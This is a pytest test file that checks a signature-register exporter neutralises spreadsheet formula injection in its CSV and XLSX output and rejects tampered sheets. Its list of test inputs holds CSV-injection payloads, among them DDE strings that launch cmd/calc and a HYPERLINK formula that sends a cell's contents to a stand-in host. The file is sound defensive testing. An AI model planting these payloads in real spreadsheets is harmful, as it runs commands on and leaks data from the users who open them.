import csv
import datetime
import io
import re
import unicodedata
import zipfile

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from signatures.delivery import registers
from signatures.delivery.bundle import Row
from signatures.delivery.registers import SheetFault, Spreadsheet, csv_rows, defuse, join_parts, sheet_rows

# From OWASP's page on CSV injection, and from the payloads that testers carry (DDE, links, other widths, quoting).
FORMULAS = [
    "=SUM(A1)",
    "+1",
    "-1",
    "@cmd",
    "＝1",
    "＋1",
    "－1",
    "＠x",
    "﹦1",
    "⁺1",
    "−1",
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"look")',
    '=1+2";=1+2',
    "=1+2'\" ;,=1+2",
    "\t=1",
    "\r=1",
    "\n=1",
    "\x00=1",
    "  =1",
    "\u00a0=1",
    "\u200b=1",
    "\ufeff=1",
    "\u202e=1",
    "\u3164=1",
    "\u034f=1",
    '"=1',
    "'=1",
    "''=1",
    "“=1",
    "' =1",
    "\t'=1",
    "= 1",
]


@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
def test_what_a_spreadsheet_would_take_for_a_formula_is_defused(text):
    assert defuse(text)[0] == "'"
    assert defuse(text)[1:].split(";")[0] == re.sub("[\t\r\n\x00]", " ", text).strip().split(";")[0]


@pytest.mark.parametrize(("text", "cell"), [("Sok;=1", "Sok;'=1"), ("a; -1;b", "a;' -1;b"), ("Sok;", "Sok;")])
def test_formula_behind_a_semicolon_is_defused(text, cell):
    assert defuse(text) == cell


SEEN_FIRST = st.sampled_from([*"=+-@＝－'\"“;, \t\r\u200b\u3164\u0301a1", "Sok"])


@settings(deadline=None)
@given(st.lists(SEEN_FIRST | st.characters(codec="utf-8"), max_size=8).map("".join))
def test_no_cell_begins_like_a_formula_however_it_is_read(text):
    """Cut at commas, at semicolons or at tabs, its letters made plain, what is not seen left out: a cell begins with an
    apostrophe or with something harmless."""
    line = csv_rows([Row(1, text, text, "KH", "2027-01-31", "web", True)]).decode().removesuffix("\r\n")
    assert len(line.splitlines()) == 1
    for delimiter in ",;\t":
        for cell in next(csv.reader([line], delimiter=delimiter)):
            plain = unicodedata.normalize("NFKC", cell.strip())
            seen = "".join(c for c in plain if unicodedata.category(c)[0] not in "CMZ" and c not in "\u1160\u115f")
            bare = seen.lstrip("\"'`´‘’‚“”„«»")
            # Where a file is cut at semicolons, a quoted cell begins with its quotation mark.
            assert not bare.startswith(("=", "+", "-", "@")) or seen.lstrip('"').startswith("'")


@settings(deadline=None)
@given(st.text(max_size=8).map(lambda text: text.replace(";", "")))
def test_no_two_texts_become_one_by_defusing(text):
    shown = defuse(text)
    if shown != _on_one_line(text):
        assert shown == f"'{_on_one_line(text)}"
        assert defuse(shown) == f"'{shown}"


def _on_one_line(text):
    return re.sub("[\x00-\x1f\x7f-\x9f\u2028\u2029]+", " ", text).strip()


@pytest.mark.parametrize("text", ["Sok", "O'Neill", "'Abd", "Marie-Claire", "Paris, -", "a;b", "សុខ", "a=b", ""])
def test_other_text_is_left_as_it_is(text):
    assert defuse(text) == text


@pytest.mark.parametrize("text", ["Sok\nDara", "Sok\r\nDara", "Sok\x85Dara", "Sok\u2028Dara", "Sok\x00Dara"])
def test_a_row_is_one_line(text):
    assert defuse(text) == "Sok Dara"


def test_csv_row_reads_back_as_it_was():
    rows = [
        Row(1, 'a "b", c', "Paris, Texas", "US", "2027-01-31", "web", True),
        Row(2, "", "", "KH", "2027-02-01", "paper", False),
    ]
    read = list(csv.reader(io.StringIO(csv_rows(rows).decode(), newline="")))
    assert read == [
        ["1", 'a "b", c', "Paris, Texas", "US", "2027-01-31", "web"],
        ["2", "", "", "KH", "2027-02-01", "paper"],
    ]


def test_parts_are_joined_under_one_header_with_the_tree_over_their_rows(tmp_path):
    for place, text in enumerate((b"1,a\r\n2,b\r\n", b"3,c\r\n")):
        (tmp_path / f"{place}.csv").write_bytes(text)
    tree = join_parts([tmp_path / "0.csv", tmp_path / "1.csv"], tmp_path / "all.csv", tmp_path / "leaves", b"")
    assert (tmp_path / "all.csv").read_bytes() == b"number,name,city,country,date,origin\r\n1,a\r\n2,b\r\n3,c\r\n"
    assert tree.size == 3


def write_sheet(path, part, *rows):
    part.write_bytes(csv_rows(rows or [Row(1, "=SUM(A1)", "1", "KH", "2027-01-31", "web", True)]))
    created = datetime.datetime(2027, 10, 22, 18, 30, tzinfo=datetime.UTC)
    sheet = Spreadsheet(
        path, created=created, title="Title", organiser="Committee", rows=max(1, len(rows)), scratch=path.parent
    )
    sheet.add_part(part)
    sheet.close()


def named(number, name, city=""):
    return Row(number, name, city, "KH", "2027-01-31", "web", True)


def change_sheet(path, change):
    with zipfile.ZipFile(path) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    members["xl/worksheets/sheet1.xml"] = change(members["xl/worksheets/sheet1.xml"].decode()).encode()
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in members.items():
            archive.writestr(name, content)


def test_sheet_holds_numbers_dates_and_text_and_no_formula(tmp_path):
    write_sheet(tmp_path / "a.xlsx", tmp_path / "part.csv")
    book = openpyxl.load_workbook(tmp_path / "a.xlsx")
    header, row = book.active.rows
    assert [cell.value for cell in header] == ["number", "name", "city", "country", "date", "origin"]
    assert [cell.value for cell in row] == [1, "'=SUM(A1)", "1", "KH", datetime.datetime(2027, 1, 31), "web"]
    assert [cell.data_type for cell in row] == ["n", "s", "s", "s", "d", "s"]


def test_sheet_has_formats_a_frozen_header_a_filter_and_says_what_it_is(tmp_path):
    write_sheet(tmp_path / "a.xlsx", tmp_path / "part.csv")
    book = openpyxl.load_workbook(tmp_path / "a.xlsx")
    assert [cell.number_format for cell in book.active[2]][::4] == ["0", "yyyy-mm-dd"]
    assert (book.active.freeze_panes, book.active.auto_filter.ref) == ("A2", "A1:F2")
    assert book.active.column_dimensions["B"].width > 30
    assert (book.properties.title, book.properties.creator) == ("Title", "Committee")


def test_byte_order_mark_is_before_the_header_and_in_no_leaf(tmp_path):
    (tmp_path / "0.csv").write_bytes(b"1,a\r\n")
    part, leaves = [tmp_path / "0.csv"], tmp_path / "leaves.bin"
    plain = join_parts(part, tmp_path / "plain.csv", leaves, bytes(32))
    marked = join_parts(part, tmp_path / "marked.csv", leaves, bytes(32), bom=True)
    assert (tmp_path / "marked.csv").read_bytes() == b"\xef\xbb\xbf" + (tmp_path / "plain.csv").read_bytes()
    assert marked.root() == plain.root()


def test_equal_rows_give_an_equal_sheet(tmp_path):
    for name in ("a.xlsx", "b.xlsx"):
        write_sheet(tmp_path / name, tmp_path / "part.csv")
    assert (tmp_path / "a.xlsx").read_bytes() == (tmp_path / "b.xlsx").read_bytes()


ODD = ["a<b>&c", "<r>x</r>", "_x0041_", "_x005F_x0041_", "_x00", "&amp;", "]]>", '"', "\uffff", "សុខ", "𞤀𞤣"]


def test_odd_text_reads_back_as_it_was(tmp_path):
    rows = [named(n, text, text) for n, text in enumerate(ODD, 1)]
    write_sheet(tmp_path / "a.xlsx", tmp_path / "part.csv", *rows)
    assert [fields[1:3] for fields in sheet_rows(tmp_path / "a.xlsx")] == [[text, text] for text in ODD]


def test_odd_text_is_read_by_others_as_it_was(tmp_path):
    rows = [named(n, text) for n, text in enumerate(ODD, 1)]
    write_sheet(tmp_path / "a.xlsx", tmp_path / "part.csv", *rows)
    _, *read = openpyxl.load_workbook(tmp_path / "a.xlsx").active.iter_rows(values_only=True)
    # openpyxl turns no _xHHHH_ back but where it stands for a letter that XML cannot hold.
    escaped = {"_x0041_": "_x005F_x0041_", "_x005F_x0041_": "_x005F_x005F_x005F_x0041_"}
    escaped["\uffff"] = "_xFFFF_"
    assert [cells[1] for cells in read] == [escaped.get(text, text) for text in ODD]


def test_rows_that_one_sheet_does_not_hold_go_on_in_the_next(tmp_path, monkeypatch):
    monkeypatch.setattr(registers, "SHEET_ROWS", 2)
    for size, sheets in ((2, 1), (3, 2), (4, 2), (5, 3)):
        write_sheet(tmp_path / "a.xlsx", tmp_path / "part.csv", *(named(n, f"Sok {n}") for n in range(1, size + 1)))
        book = openpyxl.load_workbook(tmp_path / "a.xlsx")
        assert (len(book.worksheets), [s.dimensions for s in book][0]) == (sheets, "A1:F3")
        assert [fields[0] for fields in sheet_rows(tmp_path / "a.xlsx")] == [str(n) for n in range(1, size + 1)]


@pytest.mark.parametrize(
    ("change", "fault"),
    [
        (lambda text: text.replace(">name<", ">Name<"), "does not begin with its header"),
        (lambda text: text.replace("<v>1</v></c>", "<f>1+1</f></c>"), "row 2 of .* is of another form"),
        (lambda text: text.replace('<row r="2">', '<row r="3">'), "row 2 of .* is of another form"),
        (lambda text: text.replace('<row r="2">', '<row r="2" hidden="1">'), "row 2 of .* is of another form"),
        (lambda text: text.replace("</row></sheetData>", "</row><row/></sheetData>"), "do not end"),
        (lambda text: text.replace("</row></sheetData>", ""), "do not end"),
        (lambda text: text.replace("</row></sheetData>", "</row>" + " " * 600_000), "do not end"),
        (lambda text: text.replace("<v>46418</v>", "<v>9999999</v>"), "date value out of range"),
    ],
)
def test_sheet_of_another_form_is_a_fault(tmp_path, change, fault):
    write_sheet(tmp_path / "a.xlsx", tmp_path / "part.csv")
    change_sheet(tmp_path / "a.xlsx", change)
    with pytest.raises(SheetFault, match=fault):
        list(sheet_rows(tmp_path / "a.xlsx"))
